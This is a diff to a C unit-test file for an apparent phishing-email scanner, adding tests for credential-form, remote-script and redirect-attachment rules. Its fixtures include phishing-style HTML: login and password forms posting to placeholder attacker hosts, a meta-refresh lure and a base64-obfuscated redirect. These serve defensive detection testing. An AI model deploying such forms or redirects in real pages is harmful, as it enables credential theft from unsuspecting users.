@@ -141,13 +141,114 @@ static void password_field_posting_elsewhere_is_high(void **state)
 	ks_attachment_free(a);
 }
 
-static void form_posting_elsewhere_without_password_is_medium(void **state)
+/* A kit's first step: the account alone, posted elsewhere. */
+static void form_asking_for_an_account_posting_elsewhere_is_medium(void **state)
 {
 	(void)state;
-	g_autoptr(ks_report) r = scan_body("<form action=\"https://survey.example/answer\">"
-	                                   "<input type=radio name=a value=1></form>");
+	g_autoptr(ks_report) r = scan_body("<form action=\"https://verify.evil.example/step1\">"
+	                                   "<input name=loginfmt placeholder=\"Email or phone\">"
+	                                   "<input type=submit value=Next></form>");
 	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body");
 	assert_int_equal(f->severity, KS_SEV_MEDIUM);
+	assert_contains(f->evidence, "asks for an account (loginfmt)");
+	assert_contains(f->evidence, "posts to https://verify.evil.example/step1");
+	ks_attachment *a;
+	g_autoptr(ks_report) r2 = scan_part("<form method=post action=\"https://docs.evil.example/\">"
+	                                    "<p>Enter your e-mail to open the document</p>"
+	                                    "<input type=email name=em><button>Open</button></form>",
+	                                    &a);
+	assert_int_equal(must_find(r2, KS_RULE_HTML_CREDENTIAL_FORM, "part:2")->severity,
+	                 KS_SEV_MEDIUM);
+	ks_attachment_free(a);
+}
+
+/* Near misses: forms that post elsewhere but ask for no account. */
+static void survey_search_and_unsubscribe_forms_are_not_credential_forms(void **state)
+{
+	(void)state;
+	const char *pages[] = {
+		"<form action=\"https://survey.example/answer\">"
+		"<input type=radio name=a value=1><input type=submit></form>",
+		"<form method=get action=\"https://www.outdoor-shop.example/search\">"
+		"<input type=search name=q placeholder=\"Search products\"><button>Go</button></form>",
+		"<form method=post action=\"http://www.userland.example/dailyUpdatesUnsubscribe\">"
+		"<input type=hidden name=recipient value=\"" RECIPIENT "\">"
+		"<input type=submit value=Unsubscribe></form>",
+	};
+	for (size_t i = 0; i < G_N_ELEMENTS(pages); i++) {
+		g_autoptr(ks_report) r = scan_body(pages[i]);
+		assert_null(find_rule(r, KS_RULE_HTML_CREDENTIAL_FORM));
+	}
+}
+
+/* A newsletter's sign-up box asks for an address to write to, in any of
+ * the languages of the word list; the same field under "Sign in" counts. */
+static void newsletter_signup_box_is_not_a_credential_form(void **state)
+{
+	(void)state;
+	const char *boxes[] = {
+		"<form action=\"https://shop.us5.list-manage.example/subscribe/post\" method=post>"
+		"<input type=email name=EMAIL placeholder=\"Your email\">"
+		"<input type=submit value=Subscribe></form>",
+		"<table><tr><td><form action=\"https://news.kaufhaus.example/anmelden\">"
+		"Newsletter abonnieren: <input type=text name=email></form></td></tr></table>",
+		"<form action=\"https://mag.example.jp/reg\"><input name=mail>"
+		"<button>メルマガを購読する</button></form>",
+	};
+	for (size_t i = 0; i < G_N_ELEMENTS(boxes); i++) {
+		g_autoptr(ks_report) r = scan_body(boxes[i]);
+		if (find_rule(r, KS_RULE_HTML_CREDENTIAL_FORM))
+			fail_msg("box %zu: %s", i, find_rule(r, KS_RULE_HTML_CREDENTIAL_FORM)->evidence);
+	}
+	g_autoptr(ks_report) r = scan_body(
+		"<form action=\"https://shop.us5.list-manage.example/signin\" method=post>"
+		"<input type=email name=EMAIL><input type=submit value=\"Sign in\"></form>");
+	assert_int_equal(must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body")->severity,
+	                 KS_SEV_MEDIUM);
+}
+
+/* A password field is a credential form even inside a "newsletter" box. */
+static void password_in_a_signup_box_is_still_high(void **state)
+{
+	(void)state;
+	g_autoptr(ks_report) r = scan_body(
+		"<form action=\"https://collect.evil.example/\"><p>Subscribe to our newsletter</p>"
+		"<input type=email name=e><input type=password name=p></form>");
+	assert_int_equal(must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body")->severity,
+	                 KS_SEV_HIGH);
+}
+
+/* A newsletter's body copied from its web site carries the site's scripts,
+ * which no mail client runs: low there, high in an attachment or in the
+ * body of mail that is not bulk. */
+static void remote_script_in_newsletter_body_is_low(void **state)
+{
+	(void)state;
+	const char *html = "<html><head><script src=\"https://www.googletagmanager.example/gtm.js\">"
+	                   "</script></head><body><p>Autumn sale</p></body></html>";
+	g_autoptr(ks_report) r = report_to(RECIPIENT);
+	r->list.unsubscribe = true;
+	ks_html_scan(html, strlen(html), "body", NULL, r, NULL);
+	const ks_finding *f = must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "body");
+	assert_int_equal(f->severity, KS_SEV_LOW);
+	assert_contains(f->evidence, "mail clients do not run");
+	g_autoptr(ks_report) plain = scan_body(html);
+	assert_int_equal(must_find(plain, KS_RULE_HTML_REMOTE_SCRIPT, "body")->severity,
+	                 KS_SEV_HIGH);
+	/* a newsletter without list headers still offers to unsubscribe */
+	g_autoptr(ks_report) footer = scan_body(
+		"<script src=\"http://ad.doubleclick.example/adj/news;sz=468x60\"></script>"
+		"<p>This week in open source</p><p><font size=1>To stop receiving this newsletter, "
+		"<a href=\"http://news.example.com/u?id=7\"><b>Unsubscribe</b> here</a></font></p>");
+	assert_int_equal(must_find(footer, KS_RULE_HTML_REMOTE_SCRIPT, "body")->severity,
+	                 KS_SEV_LOW);
+	g_autoptr(ks_report) bulk = report_to(RECIPIENT);
+	bulk->list.unsubscribe = true;
+	ks_attachment *a = ks_attachment_new("2");
+	ks_html_scan(html, strlen(html), "part:2", NULL, bulk, a);
+	assert_int_equal(must_find(bulk, KS_RULE_HTML_REMOTE_SCRIPT, "part:2")->severity,
+	                 KS_SEV_HIGH);
+	ks_attachment_free(a);
 }
 
 static void password_field_built_by_script_is_found(void **state)
@@ -307,6 +408,54 @@ static void meta_refresh_and_location_assignments_are_recorded(void **state)
 	assert_true(has_ioc(r, KS_IOC_DOMAIN, "doc.evil.example"));
 	assert_no_html_findings(r);
 	ks_attachment_free(a);
+}
+
+/* An attachment that is only a redirect fires, and its targets join the
+ * mail's links at its part; one with a page of text or a form does not,
+ * nor does a body. */
+static void attachment_that_only_redirects_fires(void **state)
+{
+	(void)state;
+	ks_attachment *a;
+	g_autoptr(ks_report) r = scan_part(
+		"<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://docs-view.example/f\">"
+		"</head><body>Loading document, please wait...</body></html>",
+		&a);
+	const ks_finding *f = must_find(r, KS_RULE_ATTACHMENT_HTML_REDIRECT, "part:2");
+	assert_contains(f->evidence, "meta refresh to https://docs-view.example/f");
+	assert_int_equal(f->severity, KS_SEV_HIGH);
+	assert_int_equal(r->links->len, 1);
+	const ks_link *l = g_ptr_array_index(r->links, 0);
+	assert_string_equal(l->href, "https://docs-view.example/f");
+	assert_string_equal(l->location, "part:2");
+	assert_string_equal(l->text, "[meta refresh]");
+	ks_attachment_free(a);
+
+	g_autoptr(ks_report) js = scan_part(
+		"<script>var u = atob('aHR0cHM6Ly94LmV4YW1wbGUv'); window.location.href = u;</script>",
+		&a);
+	must_find(js, KS_RULE_ATTACHMENT_HTML_REDIRECT, "part:2");
+	ks_attachment_free(a);
+
+	GString *page = g_string_new("<meta http-equiv=\"refresh\" content=\"30;url=/next\"><p>");
+	for (int i = 0; i < 40; i++)
+		g_string_append(page, "Quarterly figures are in the table below. ");
+	g_autoptr(ks_report) text = scan_part(page->str, &a);
+	g_string_free(page, TRUE);
+	assert_null(find_rule(text, KS_RULE_ATTACHMENT_HTML_REDIRECT));
+	ks_attachment_free(a);
+
+	g_autoptr(ks_report) form = scan_part(
+		"<form action=\"https://c2.example/p\"><input type=\"password\"></form>"
+		"<script>location.href='https://c2.example/done'</script>",
+		&a);
+	assert_null(find_rule(form, KS_RULE_ATTACHMENT_HTML_REDIRECT));
+	ks_attachment_free(a);
+
+	g_autoptr(ks_report) body =
+		scan_body("<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">");
+	assert_null(find_rule(body, KS_RULE_ATTACHMENT_HTML_REDIRECT));
+	assert_int_equal(body->links->len, 0);
 }
 
 /* ---- the recipient, the brand, the logo ----------------------------------------- */
@@ -540,7 +689,11 @@ int main(void)
 		cmocka_unit_test(relative_and_inline_scripts_raise_nothing),
 		cmocka_unit_test(script_element_built_at_run_time_is_remote),
 		cmocka_unit_test(password_field_posting_elsewhere_is_high),
-		cmocka_unit_test(form_posting_elsewhere_without_password_is_medium),
+		cmocka_unit_test(form_asking_for_an_account_posting_elsewhere_is_medium),
+		cmocka_unit_test(survey_search_and_unsubscribe_forms_are_not_credential_forms),
+		cmocka_unit_test(newsletter_signup_box_is_not_a_credential_form),
+		cmocka_unit_test(password_in_a_signup_box_is_still_high),
+		cmocka_unit_test(remote_script_in_newsletter_body_is_low),
 		cmocka_unit_test(password_field_built_by_script_is_found),
 		cmocka_unit_test(ordinary_word_password_in_script_is_not_a_field),
 		cmocka_unit_test(eval_of_atob_is_obfuscated),
@@ -553,6 +706,7 @@ int main(void)
 		cmocka_unit_test(inline_jpeg_data_uri_is_counted_not_scanned),
 		cmocka_unit_test(data_uri_iframe_page_is_decoded),
 		cmocka_unit_test(meta_refresh_and_location_assignments_are_recorded),
+		cmocka_unit_test(attachment_that_only_redirects_fires),
 		cmocka_unit_test(recipient_address_is_found_plain),
 		cmocka_unit_test(recipient_address_is_found_in_base64_at_every_alignment),
 		cmocka_unit_test(other_addresses_are_not_the_recipient),
